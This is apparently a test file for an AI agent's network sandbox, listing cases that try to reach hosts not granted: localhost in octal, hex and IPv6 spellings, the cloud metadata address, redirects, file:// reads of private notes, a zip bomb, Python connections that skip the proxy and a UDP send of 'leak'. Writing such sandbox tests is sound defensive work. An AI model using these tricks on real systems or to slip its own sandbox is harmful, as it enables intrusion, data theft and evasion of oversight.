import { asked, type Call, type CallCase, denied, type Family, type Place, shell } from "../_case.ts";

const fetchUrl = (url: string): Call => ({ tool: "fetch", args: { url } });

const portOf = ({ inner }: Place) => inner.split(":")[1] ?? "";

/** The service of this machine that nobody granted, by another spelling of its address. */
function spelled(id: string, title: string, answers: string, url: (port: string) => string): CallCase {
  return {
    kind: "call",
    id,
    title,
    answers,
    session: "internet",
    attack: (place) => fetchUrl(url(portOf(place))),
    twin: ({ web }) => fetchUrl(`http://${web}/page?${id}`),
    gives: /a page of this machine/,
    refused: { bubblewrap: asked(/net=/) },
    harm: ({ intruders }) => intruders[0],
  };
}

/** Python that speaks HTTP to an address by itself. Its parts keep the address from being read out of the command. */
const connects = (address: string) => {
  const [host, port] = address.split(":");
  return `import http.client as h; c = h.HTTPConnection("${host}", ${port}, timeout=9); c.request("GET", "/page"); print(c.getresponse().read())`;
};

export const network: Family = {
  name: "net",
  title: "Network",
  cases: [
    spelled("net-01", "this machine, by its address", "CWE-918", (port) => `http://127.0.0.1:${port}/`),
    spelled(
      "net-02",
      "as an IPv4 address in IPv6",
      "CVE-2024-24790",
      (port) => `http://[::ffff:127.0.0.1]:${port}/`,
    ),
    spelled("net-03", "as the unspecified address", "CWE-918", (port) => `http://0.0.0.0:${port}/`),
    spelled("net-04", "as one decimal number", "CVE-2024-29415", (port) => `http://2130706433:${port}/`),
    spelled("net-05", "in octal", "CVE-2021-28918", (port) => `http://0177.0.0.1:${port}/`),
    spelled("net-06", "in hexadecimal", "CVE-2023-42282", (port) => `http://0x7f.1:${port}/`),
    spelled("net-07", "short", "CVE-2024-29415", (port) => `http://127.1:${port}/`),
    spelled("net-08", "by name, with a dot at the end", "CWE-1289", (port) => `http://localhost.:${port}/`),
    spelled("net-09", "as IPv6", "CWE-918", (port) => `http://[::1]:${port}/`),
    spelled(
      "net-10",
      "the metadata service of a cloud",
      "CWE-918",
      () => "http://169.254.169.254/latest/meta-data/",
    ),
    spelled("net-11", "an address of the network at home", "CWE-918", () => "http://192.168.1.1/"),
    {
      kind: "call",
      id: "net-12",
      title: "a redirect to a service of this machine",
      answers: "CWE-918",
      session: "internet",
      attack: ({ web }) => fetchUrl(`http://${web}/to-inner`),
      twin: ({ web }) => fetchUrl(`http://${web}/again`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: {
          layer: "approval",
          how: "the redirect is decided on its own: `ask`, exit 3",
          sees: /redirect|net=127/,
        },
      },
      harm: ({ intruders }) => intruders[0],
    },
    {
      kind: "call",
      id: "net-13",
      title: "a host that a rule denies, spelled in capitals and with a dot",
      answers: "CWE-1289",
      session: "internet",
      attack: () => fetchUrl("http://EVIL.example.ORG./leak"),
      twin: ({ web }) => fetchUrl(`http://${web}/page?net-13`),
      gives: /a page of this machine/,
      refused: { bubblewrap: denied(/net=evil\.example\.org/) },
    },
    {
      kind: "call",
      id: "net-14",
      title: "a user name that looks like an allowed host",
      answers: "CWE-20",
      session: "internet",
      attack: ({ web, inner }) => fetchUrl(`http://${web}@${inner}/`),
      twin: ({ web }) => fetchUrl(`http://${web}/page?net-14`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: { layer: "tool", how: "`tool.finished` with `failed`", sees: /user name/ },
      },
      harm: ({ intruders }) => intruders[0],
    },
    {
      kind: "call",
      id: "net-15",
      title: "a file by URL",
      answers: "CWE-918",
      session: "internet",
      attack: ({ home }) => fetchUrl(`file://${home}/private/notes.txt`),
      twin: ({ web }) => fetchUrl(`http://${web}/page?net-15`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: { layer: "tool", how: "`tool.finished` with `failed`", sees: /only http/ },
      },
    },
    {
      kind: "call",
      id: "net-16",
      title: "a page of a few kilobytes that unpacks to a gigabyte",
      answers: "CWE-409",
      session: "internet",
      attack: ({ web }) => fetchUrl(`http://${web}/zip-bomb`),
      twin: ({ web }) => fetchUrl(`http://${web}/zip`),
      gives: /compressed/,
      refused: {
        bubblewrap: { layer: "limits", how: "reading stops at 5 MB", sees: /MB|binary|large/ },
      },
    },
    {
      kind: "call",
      id: "net-17",
      title: "a page of a gigabyte",
      answers: "CWE-400",
      session: "internet",
      attack: ({ web }) => fetchUrl(`http://${web}/endless`),
      twin: ({ web }) => fetchUrl(`http://${web}/page?net-17`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: { layer: "limits", how: "reading stops at 5 MB", sees: /MB|binary|large/ },
      },
    },
    {
      kind: "call",
      id: "proxy-01",
      title: "a command with one host granted, that names another port of it",
      answers: "CWE-918",
      session: "one host",
      attack: ({ inner }) => shell(`curl -sS -m 10 http://${inner}/`),
      twin: ({ web }) => shell(`curl -sS -m 10 http://${web}/page`),
      gives: /a page of this machine/,
      refused: { bubblewrap: asked(/net=127/) },
      harm: ({ intruders }) => intruders[0],
    },
    {
      kind: "call",
      id: "proxy-02",
      title: "a connection that does not ask the proxy",
      answers: "CWE-693",
      session: "one host",
      attack: ({ inner }) => shell(`python3 -c '${connects(inner)}'`),
      twin: ({ web }) => shell(`python3 -c '${connects(web)}'`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: { layer: "bubblewrap", how: "a network of its own", sees: /refused|unreachable/i },
      },
      harm: ({ intruders }) => intruders[0],
    },
    {
      kind: "call",
      id: "proxy-03",
      title: "another spelling of an address that was not granted",
      answers: "CVE-2024-29415",
      session: "one host",
      attack: (place) =>
        shell(
          `python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("http://0x7f.1:${
            portOf(place)
          }/")).read())'`,
        ),
      twin: ({ web }) =>
        shell(`python3 -c 'import urllib.request as u; print(u.urlopen("http://${web}/page?3").read())'`),
      gives: /a page of this machine/,
      refused: { bubblewrap: { layer: "proxy", how: "the command fails", sees: /40\d|refused|Error/i } },
      harm: ({ intruders }) => intruders[0],
    },
    {
      kind: "call",
      id: "proxy-04",
      title: "UDP beside the proxy",
      answers: "CVE-2025-55284",
      session: "one host",
      attack: ({ udp }) =>
        shell(
          `python3 -c 'import socket; h, p = "${udp}".split(":"); socket.socket(2, 2).sendto(b"leak", (h, int(p))); print("sent")'`,
        ),
      twin: ({ web }) => shell(`curl -sS -m 10 http://${web}/page?4`),
      gives: /a page of this machine/,
      refused: {
        bubblewrap: {
          layer: "bubblewrap",
          how: "nothing arrives: a network of its own",
          sees: /sent|unreachable|not permitted/,
          done: true,
        },
      },
      harm: ({ knocks }) => knocks.find((one) => one.startsWith("udp")),
    },
    {
      kind: "call",
      id: "proxy-05",
      title: "a host by name, where Landlock cannot tell hosts apart",
      answers: "CWE-693",
      session: "one host",
      attack: ({ web }) => shell(`curl -sS -m 10 http://${web}/page`),
      twin: ({ web }) => fetchUrl(`http://${web}/page?5`),
      gives: /a page of this machine/,
      refused: { landlock: asked(/net=/) },
    },
  ],
};
